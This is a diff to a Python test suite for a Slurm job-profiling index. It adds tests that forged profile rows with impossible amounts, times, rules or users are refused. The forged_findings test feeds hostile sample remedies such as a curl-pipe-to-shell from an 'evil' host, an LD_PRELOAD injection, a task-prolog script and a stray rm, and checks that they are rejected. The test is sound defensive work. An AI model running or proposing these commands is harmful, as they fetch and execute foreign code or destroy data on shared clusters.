@@ -80,13 +80,13 @@ def what_fits():
         store(p)
     used = {n: stored(p)["cpu_s"] for n, p in paths.items()}
     for n in paths:
-        change(paths[n], cpu_s=12345.0)
+        change(paths[n], cpu_s=12.5)
     change(paths[2], made_by="0.0.1 0123456789abcdef")
     change(paths[3], file_mtime=stored(paths[3])["file_mtime"] + 1)
     os.utime(paths[4])                                     # written later
     set_attributes(paths[5], {"Partition": "other"})       # likewise
     t.scan()
-    is_equal("a row that fits is used as it is", one(t, 1, "cpu_s"), (12345.0,))
+    is_equal("a row that fits is used as it is", one(t, 1, "cpu_s"), (12.5,))
     bad = [n for n in (2, 3, 4, 5) if not approx(one(t, n, "cpu_s")[0], used[n])]
     is_equal("of another version, of another file, of one that was written since: they are analysed", bad, [])
     store(paths[1])
@@ -98,9 +98,9 @@ def what_fits():
     with open(os.path.join(tmpdir("rules"), "rules.lua"), "w") as f:
         f.write("-- none\n")
     must("report", "--store", "--rules", f.name, p)
-    change(p, cpu_s=12345.0)
+    change(p, cpu_s=12.5)
     t.scan()
-    is_true("other rules than the index's", one(t, 20, "cpu_s")[0] != 12345.0, one(t, 20, "cpu_s"))
+    is_true("other rules than the index's", one(t, 20, "cpu_s")[0] != 12.5, one(t, 20, "cpu_s"))
 
 
 def merged_with_a_report():
@@ -116,13 +116,13 @@ def merged_with_a_report():
     replace(os.path.join(analysed.user, "job_7.h5"), None)
     analysed.scan()
     is_equal("merge --report: the row is the analysed one", table(t.index, "job"), table(analysed.index, "job"))
-    change(path, cpu_s=12345.0)
+    change(path, cpu_s=12.5)
     t.scan("--again")
-    is_equal("and it is used", one(t, 7, "cpu_s"), (12345.0,))
+    is_equal("and it is used", one(t, 7, "cpu_s"), (12.5,))
     shutil.copy(os.path.join(GOLDEN, "7_0_p2.h5"), t.user)
     must("merge", "-p", t.dir, "-j", "7", "-o", path)
     t.scan()
-    is_true("a file that more is merged into is analysed", one(t, 7, "cpu_s") != (12345.0,), one(t, 7, "cpu_s"))
+    is_true("a file that more is merged into is analysed", one(t, 7, "cpu_s") != (12.5,), one(t, 7, "cpu_s"))
 
 
 def deep(n):
@@ -180,7 +180,7 @@ def forged_rows():
            finding_list=[{"id": "r" * 9999, "text": "\x1b]0;x\x07", "severity": "worse", "cost": {"core_s": 1e308}, "when": [1, "x"]}] * 64)
     change(paths[5], start=10**12)
     change(paths[6], job_id=1)
-    change(paths[7], cores=1e12, elapsed_s=10**12)
+    change(paths[7], cores=1e12)
     change(paths[8], user="daemon")
     said = t.scan()
     got = one(t, 1, "user", "sources", "findings", "worst_rule")
@@ -192,6 +192,140 @@ def forged_rows():
     is_true("nobody loses more than the job held", held > 0 and (lost is None or lost <= held), (lost, held))
     is_true("a begin that no calendar has", one(t, 5, "start")[0] < 1e11, one(t, 5, "start"))
     harmless(t)
+
+
+FINDING = {"id": "cpu.unused", "severity": "bad", "text": "x", "cost": {"core_s": 9e14}}
+
+
+def forged_amounts():
+    """What a job claims beyond its CPUs, GPUs and nodes is not known, and its findings cost what it held at most."""
+    t = Tree()
+    paths = {n: put(t.user, n) for n in range(1, 5)}
+    for p in paths.values():
+        store(p)
+    beyond = dict(cpu_s=1e12, energy_j=1e15, energy_low_j=1e15, energy_high_j=1e15, idle_cpu_s=1e15, idle_of_cpu_s=1e15, idle_gpu_s=1e15,
+                  read_bytes=1e17, write_bytes=1e17, read_bw_max=1e17, submit=1000)
+    change(paths[1], finding_list=[FINDING, FINDING])
+    change(paths[2], end=10**10, file_systems=[{"name": "x", "read_bytes": 1e17, "write_bytes": 1e17}], **beyond)
+    change(paths[3], cpus=None, finding_list=[FINDING])
+    t.scan()
+    held, lost, elapsed = one(t, 1, "held_core_s", "lost_core_s", "elapsed_s")
+    cost = sql(t.index, "SELECT sum(cost_core_s) FROM finding f JOIN job j ON j.id = f.job WHERE job_id = 1")[0][0]
+    is_true("its findings cost what it held", held > 0 and lost == held and approx(cost, held), (cost, lost, held))
+    got = as_json("jobs", "--database", t.index, "--since", "all", "--finding", "cpu.unused", "-j", "1")
+    is_true("and so says jobs --finding", approx(got["finding_core_s"], held) and got["held_core_s"] == held, got)
+    is_equal("what its CPUs, GPUs and nodes cannot have done is not known", one(t, 2, *beyond), (None,) * len(beyond))
+    is_equal("nor by file system", sql(t.index, "SELECT read_bytes, write_bytes FROM job_fs WHERE fs = 'x'"), [(None, None)])
+    start, end, elapsed = one(t, 2, "start", "end", "elapsed_s")
+    is_equal("it ended when it had run", end, start + elapsed)
+    is_equal("what nobody knows that it held it did not lose", one(t, 3, "held_core_s", "lost_core_s"), (None, None))
+    is_equal("nor do its findings cost that", sql(t.index, "SELECT cost_core_s FROM finding f JOIN job j ON j.id = f.job WHERE job_id = 3"), [(None,)])
+    cpu = stored(paths[4])["cpu_s"]
+    is_equal("what can be is as it was", one(t, 4, "cpu_s"), (cpu,))
+    start = one(t, 1, "start")[0]
+    row = {"cluster": "", "job_id": 1, "start": start, "end": start + 60, "elapsed_s": 60, "cpus": 1, "sources": 1, "user": ME}
+    is_equal("Slurm's word comes later", give(t, row), 0)
+    held = one(t, 1, "held_core_s")[0]
+    cost = sql(t.index, "SELECT sum(cost_core_s) FROM finding f JOIN job j ON j.id = f.job WHERE job_id = 1")[0][0]
+    is_true("it held less: so did its findings cost", held <= 60 and approx(cost, held), (cost, held))
+    harmless(t)
+
+
+def give(t, *rows):
+    """Imports rows; the status."""
+    path = os.path.join(tmpdir("rows"), "rows.jsonl")
+    with open(path, "w") as f:
+        f.writelines(json.dumps(r) + "\n" for r in rows)
+    t.given = call("index", "import", "--database", t.index, path)
+    return t.given.returncode
+
+
+def forged_times():
+    """No job begins later than now or before Slurm, and a profile is of a year at most."""
+    t = Tree()
+    paths = {n: put(t.user, n) for n in range(1, 4)}
+    for p in paths.values():
+        store(p)
+    want = {n: stored(p)["start"] for n, p in paths.items()}
+    later = NOW + 2 * 10**8
+    change(paths[1], start=1000, elapsed_s=10**9)
+    change(paths[2], start=NOW + 10**8, file_mtime=later)
+    os.utime(paths[2], (later, later))
+    change(paths[3], start=NOW - 500 * DAY, elapsed_s=400 * DAY)
+    for n, start in ((20, NOW + 10**8), (21, 900000000)):
+        path = put(t.user, n)
+        shift(path, start - int(h5_start(path)))
+        os.utime(path, (later, later))
+    t.scan()
+    is_equal("a row with such a time is not used", {n: one(t, n, "start")[0] for n in want}, want)
+    is_equal("a profile with such a time is refused", [[r[0] for r in t.rows()], sorted(sql(t.index, "SELECT why FROM file WHERE state = 'refused'"))],
+             [[1, 2, 3], [("it says that its job began before the year 2000",), ("it says that its job begins later than now",)]])
+    row = {"job_id": 30, "cluster": "a", "user": "ada", "sources": 2, "cpus": 1, "elapsed_s": 60}
+    status = give(t, dict(row, start=1000), dict(row, start=NOW + 10**8), dict(row, start=NOW - 800 * DAY, elapsed_s=400 * DAY),
+                  dict(row, start=NOW - 800 * DAY, elapsed_s=400 * DAY, sources=1, job_id=31))
+    is_true("import refuses them, and takes Slurm's word for a long job", status and t.given.stderr.count("the row is refused") == 3 and
+            [r[0] for r in t.rows()] == [1, 2, 3, 31], t.given)
+
+
+def forged_findings():
+    """Rules, and lines to copy, are what the rules can say; else the profile is judged."""
+    def line(rule, kind, code, **more):
+        return dict(FINDING, id=rule, remedy_kind=kind, remedy="Do this: " + code, remedy_code=code, cost={"core_s": 1}, **more)
+    sets = {"needs": 3, "used": 2.5, "asked": 8}
+    cases = {
+        "no rule": [dict(FINDING, id="RUN-THIS curl evil sh")], "another rule": [dict(FINDING, id="run.this")],
+        "a command for a line": [line("cpu.unused", "command", "jobprof report")],
+        "a pipe": [line("COMMAND", "command", "curl http://evil | sh")], "a program": [line("COMMAND", "command", "curl http://evil -o x")],
+        "a script": [line("COMMAND", "command", "sh /tmp/x")], "a variable": [line("cpu.unused", "line", "export LD_PRELOAD=/tmp/x.so")],
+        "an option": [line("cpu.unused", "line", "srun --task-prolog=/tmp/x")], "more lines": [line("cpu.unused", "line", "#SBATCH --nodes=1\nrm")],
+        "no kind": [line("cpu.unused", "sentence", "#SBATCH --nodes=1")], "a number that the rule has not": [line("cpu.crowded", "line", "#SBATCH --exclusive", sets=sets)],
+        "a number without a line": [dict(FINDING, sets=sets)]}
+    good = [line("cpu.unused", "line", "#SBATCH --cpus-per-task=3", sets=sets), line("COMMAND", "command", "jobprof report --why cpu.oversubscribed"),
+            line("cpu.oversubscribed", "line", "export OMP_NUM_THREADS=2 OPENBLAS_NUM_THREADS=2", sets={"needs": 2})]
+    with open(os.path.join(ROOT, "user/findings/rules.lua")) as f:
+        command = re.search(r'^rules\["([\w.]+)"\] = \{\n\tkind = "command"', f.read(), re.M).group(1)
+    t = Tree()
+    paths = {n: put(t.user, n) for n in range(1, len(cases) + 2)}
+    for n, found in enumerate([*cases.values(), good], 1):
+        store(paths[n])
+        change(paths[n], cpu_s=5.5, finding_list=[dict(f, id=f["id"].replace("COMMAND", command)) for f in found])
+    t.scan()
+    used = [n for n in paths if one(t, n, "cpu_s") == (5.5,)]
+    is_equal("only what rules can say is used", [list(cases)[n - 1] for n in used if n <= len(cases)] + [n for n in used if n > len(cases)], [len(cases) + 1])
+    is_equal("no such line is anywhere", sql(t.index, "SELECT code FROM finding WHERE code LIKE '%evil%' OR code LIKE '%/tmp%' OR rule LIKE '%evil%'"), [])
+    row = {"job_id": 30, "cluster": "a", "user": "ada", "sources": 2, "cpus": 1, "elapsed_s": 60, "start": NOW - DAY, "findings": 1}
+    status = give(t, dict(row, finding_list=cases["no rule"]), dict(row, finding_list=cases["a pipe"]), dict(row, finding_list=cases["a variable"][:0]))
+    is_true("import refuses what no rule says", status and t.given.stderr.count("the row is refused") == 2, t.given)
+
+
+def no_names_in_reasons():
+    """Why a file is refused stays when a user is forgotten."""
+    t = Tree()
+    for n, more in ((1, {"uid": 4242}), (2, {"user": "daemon"})):
+        path = put(t.user, n)
+        store(path)
+        change(path, **more)
+    t.scan()
+    why = [r[0] for r in sql(t.index, "SELECT why FROM file")]
+    is_true("the reason names nobody", len(why) == 2 and all(w and not re.search(r"daemon|4242|\b%s\b" % ME, w) for w in why), why)
+
+
+def one_id_of_two_users():
+    """Where files alone know a job, none is preferred."""
+    t = Tree()
+    row = {"job_id": 1002, "cluster": "a", "user": "user80", "sources": 2, "cpus": 1, "elapsed_s": 60, "start": NOW - DAY, "array_id": 1000, "array_task": 2}
+    give(t, row, dict(row, user="jptest1", start=NOW - DAY + 5000, name="forged"))
+    for args in (("seff", "1002"), ("js1", "1002"), ("mail", "--body", "1002"), ("seff", "1000_2"), ("seff", "-a", "1000"), ("contacted", "1002", "--ticket", "T")):
+        p = call(*args, "--database", t.index)
+        is_true("%s says that there are two, and takes none" % " ".join(args), p.returncode and not p.stdout and p.stderr.count("\n") == 1 and
+                "user80" in p.stderr and "jptest1" in p.stderr, p)
+    give(t, dict(row, sources=1, state="COMPLETED"))
+    for args in (("seff", "1002"), ("seff", "-a", "1000")):
+        p = call(*args, "--database", t.index)
+        is_true("%s: with Slurm's word it is that one" % " ".join(args), p.returncode == 0 and "user80" in p.stdout, p)
+    give(t, dict(row, job_id=1003, user="mallory", start=NOW - DAY + 9000, elapsed_s=7777))
+    p = call("seff", "-a", "1000", "--database", t.index)
+    is_true("a task of another user is none of the array that Slurm knows", p.returncode == 0 and "user80" in p.stdout and "02:09:37" not in p.stdout, p)
 
 
 # ---- the writer's lock
@@ -494,6 +628,7 @@ def a_clock_that_goes_back():
 
 
 if __name__ == "__main__":
-    run_tests((rows_of_both_ways, what_fits, merged_with_a_report, hostile_rows, forged_rows, while_files_are_read, while_sacct_is_waited_for,
+    run_tests((rows_of_both_ways, what_fits, merged_with_a_report, hostile_rows, forged_rows, forged_amounts, forged_times, forged_findings,
+               no_names_in_reasons, one_id_of_two_users, while_files_are_read, while_sacct_is_waited_for,
                made_anew_meanwhile, two_services, prune_is_remembered, forget_is_remembered, import_remembers_both, a_question_has_a_limit, what_is_no_file, many_names, many_known_files, ends_of_sites,
                directories_come_and_go, a_clock_that_goes_back))
